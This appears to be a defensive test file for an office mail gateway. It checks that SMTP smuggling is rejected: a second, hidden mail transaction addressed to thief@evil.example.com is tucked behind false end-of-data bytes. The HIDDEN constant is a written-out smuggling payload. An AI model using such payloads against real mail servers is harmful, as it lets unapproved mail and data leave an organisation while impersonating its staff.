/**
 * A second mail hidden in the first, from inside: a desk that was taken over hands in one mail, and wants a second to leave that nobody approved. The same ends as
 * from the internet (`corpus/mail-wire`), said to the port where the office hands in its mail.
 */
import { readFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { Talk } from '../../../packages/gates/mail/src/receive/receiving.test-support.ts'
import { CHIEF, CLERK, outwardBench } from './outward.test-support.ts'
import type { OutwardBench } from './outward.test-support.ts'

const ENDS = JSON.parse(
  readFileSync(join(import.meta.dirname, '../../../corpus/mail-wire/ends.json'), 'utf8'),
) as Record<'falseEnds' | 'noEnds', readonly { readonly bytes: string; readonly title: string }[]>
const OUTSIDE = 'info@vendor.example.com'
const THIEF = 'thief@evil.example.com'
const SUBJECT = `=?UTF-8?B?${Buffer.from('【自治体機密性1】お知らせ').toString('base64')}?=`
const APPROVER = { account: 'a2', person: 's0002', name: '𠮷田 健一' }

const header = (to: string): string => `From: ${CLERK}\r\nTo: ${to}\r\nSubject: ${SUBJECT}\r\n\r\n`
const HIDDEN = `MAIL FROM:<${CHIEF}>\r\nRCPT TO:<${THIEF}>\r\nDATA\r\n${header(THIEF)}smuggled\r\n.\r\n`

let bench: OutwardBench
beforeAll(async () => {
  bench = await outwardBench({ delayMinutes: 0 })
}, 60_000)
afterAll(() => bench.close())

/** One mail with another behind the end. Returns what was answered behind DATA, until the other side ended. */
async function handedIn(end: string): Promise<readonly string[]> {
  const talk = await Talk.to(bench.port)
  const opening = ['EHLO desk.kasumi', `MAIL FROM:<${CLERK}>`, `RCPT TO:<${OUTSIDE}>`, 'DATA']
  for (const line of opening) expect(await talk.ask(line)).toMatch(/^(?:250|354)/u)
  talk.send(`${header(OUTSIDE)}words${end}${HIDDEN}QUIT\r\n`)
  return talk.rest()
}

describe('from the office, behind each end that one server believes and another does not', () => {
  it.each(ENDS.falseEnds.map(({ title, bytes }) => [title, bytes] as const))(
    '%s: neither mail is taken',
    async (_, end) => {
      const answers = await handedIn(end)
      expect(answers).toHaveLength(1)
      expect(answers[0]).toMatch(/^521 5\.[56]\.[02] SMTP-(?:BARE-LINE-END|NUL) /u)
      expect(await bench.held()).toEqual([])
    },
  )

  it('behind bytes that end nothing: one mail each, for the one recipient that its approver sees', async () => {
    for (const { bytes } of ENDS.noEnds)
      expect((await handedIn(bytes)).map((answer) => answer.slice(0, 3))).toEqual(['250', '221'])
    await bench.after(1)
    const held = await bench.held()
    expect(held).toHaveLength(ENDS.noEnds.length)
    expect(new Set(held.map(({ destination }) => destination)).size).toBe(1)
    for (const { crossing, cured, destination } of held) {
      const sha256 = cured?.sha256 ?? ''
      const { purpose } = crossing
      const decision = { decision: 'approve', sha256, destination, purpose, comment: '' } as const
      expect(await bench.outward.mails.decide(crossing.id, APPROVER, decision)).toMatchObject({
        ok: true,
      })
    }
    await bench.after(1)
    const left = [...bench.brought.values()]
    expect(left).toHaveLength(ENDS.noEnds.length)
    for (const { from, recipients, bytes } of left) {
      expect([from, recipients]).toEqual([CLERK, [OUTSIDE]])
      // What lay behind the end is words of this mail, and spelled so that no server reads a command in it.
      expect(Buffer.from(bytes).toString('latin1')).not.toMatch(/^\.|thief|smuggled/imu)
    }
    expect(JSON.stringify(bench.own)).not.toContain(THIEF)
  })
})
